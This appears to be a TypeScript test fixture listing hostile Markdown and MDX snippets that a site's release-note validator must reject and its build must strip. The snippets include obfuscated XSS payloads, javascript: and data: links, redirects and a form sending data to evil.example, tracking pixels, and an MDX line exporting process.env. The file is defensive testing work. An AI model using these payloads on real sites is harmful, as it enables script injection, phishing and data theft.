/**
 * The markup part of the hostile corpus: bodies an attacker (or a careless paste) could put in a
 * release. validate must refuse each with its line; astro build with validate skipped must
 * publish the text around it and none of `absent`. Each becomes releases/hostile-<id>.md(x).
 */
export interface MarkupCase {
  id: string;
  mdx?: boolean;
  snippet: string;
  /** A part of validate's message. */
  says: string;
  /** What must not appear in the built article. */
  absent: RegExp;
}

export const MARKUP_CASES: MarkupCase[] = [
  { id: 'script', snippet: '<script>alert(1)</script>', says: '<script>', absent: /<script|alert/ },
  { id: 'iframe', snippet: '<iframe src="https://evil.example/"></iframe>', says: '<iframe>', absent: /<iframe|evil/ },
  { id: 'onerror', snippet: '<img src="/og-default.png" alt="图" onerror="alert(1)">', says: 'on…=', absent: /onerror|alert/ },
  { id: 'js-link', snippet: '[点我](javascript:alert(1))', says: 'javascript:', absent: /javascript|alert/ },
  { id: 'js-upper', snippet: '[点我](JAVASCRIPT:alert(1))', says: 'javascript:', absent: /javascript|alert/i },
  { id: 'js-entity', snippet: '<a href="jav&#x61;script:alert(1)">链接</a>', says: 'javascript:', absent: /href|alert/ },
  { id: 'js-tab', snippet: '<a href="java&#9;script:alert(1)">链接</a>', says: 'javascript:', absent: /href|alert/ },
  { id: 'js-control', snippet: '<a href=" &#x0e;javascript:alert(1)">链接</a>', says: 'javascript:', absent: /href|alert/ },
  { id: 'js-reference', snippet: '[点我][r]\n\n[r]: javascript:alert(1)', says: 'javascript:', absent: /href|alert/ },
  { id: 'vbscript', snippet: '<a href="vbscript:msgbox(1)">链接</a>', says: 'javascript:', absent: /href|msgbox/ },
  {
    id: 'data-link',
    snippet: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">下载</a>',
    says: '链接地址「data:text/html',
    absent: /href|base64/,
  },
  {
    id: 'meta-refresh',
    snippet: '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    says: '<meta>',
    absent: /<meta|evil/,
  },
  { id: 'base', snippet: '<base href="https://evil.example/">', says: '<base>', absent: /<base|evil/ },
  {
    id: 'form',
    snippet: '<form action="https://evil.example/collect"><input name="id"><button>领取补贴</button></form>',
    says: '<form>',
    absent: /<form|<input|<button|evil/,
  },
  {
    id: 'stylesheet',
    snippet: '<link rel="stylesheet" href="https://evil.example/x.css">',
    says: '<link>',
    absent: /<link|evil/,
  },
  { id: 'style', snippet: '<style>.bz-header{display:none}</style>', says: '<style>', absent: /<style|display/ },
  {
    id: 'svg',
    snippet: '<svg><script>alert(1)</script><a href="javascript:alert(2)"><text>图</text></a></svg>',
    says: '<svg>',
    absent: /<svg|alert/,
  },
  {
    id: 'math',
    snippet: '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>',
    says: '<math>',
    absent: /<math|alert/,
  },
  {
    id: 'object',
    snippet: '<object data="/files/x.swf"></object><embed src="/files/x.swf">',
    says: '<object>',
    absent: /<object|<embed|swf/,
  },
  {
    id: 'style-attr',
    snippet: '<p style="position:fixed;inset:0">系统升级，请点击领取</p>',
    says: '读者看不见、搜索引擎却能读到的文字（style=',
    absent: /style=|position/,
  },
  { id: 'clobber-id', snippet: '<a id="main" href="/">首页</a>', says: '属性 id', absent: /id="main"/ },
  {
    id: 'remote-image',
    snippet: '![统计](https://tracker.example/p.gif)',
    says: '图片地址「https://tracker.example',
    absent: /tracker/,
  },
  {
    id: 'host-image',
    snippet: '<img src="//tracker.example/p.gif" alt="统计">',
    says: '图片地址「//tracker.example',
    absent: /tracker/,
  },
  {
    id: 'mdx-esm',
    mdx: true,
    snippet: 'export const leaked = globalThis.process.env;',
    says: 'import/export',
    absent: /leaked|process/,
  },
  {
    id: 'mdx-expression',
    mdx: true,
    snippet: '<a href={"java" + "script:alert(1)"}>链接</a>',
    says: '{ } 程序表达式',
    absent: /href|alert/,
  },
  {
    id: 'mdx-spread',
    mdx: true,
    snippet: '<a {...{ onclick: "alert(1)" }} href="/">链接</a>',
    says: '{ } 程序表达式',
    absent: /onclick|alert/,
  },
  { id: 'mdx-script', mdx: true, snippet: '<Script>alert(1)</Script>', says: '<script>', absent: /<script|alert/i },
  {
    id: 'mdx-form',
    mdx: true,
    snippet: '<form action="https://evil.example/"><input name="id" /></form>',
    says: '<form>',
    absent: /<form|<input|evil/,
  },
];

/** The file of a markup case and its text; the snippet sits on line 8. */
export function markupFile(c: MarkupCase): [file: string, text: string] {
  const front = `---\ntitle: 恶意正文 ${c.id}\ndate: 2021-03-04\n---\n`;
  return [`releases/hostile-${c.id}.${c.mdx ? 'mdx' : 'md'}`, `${front}\n开头${c.id}。\n\n${c.snippet}\n\n结尾${c.id}。\n`];
}
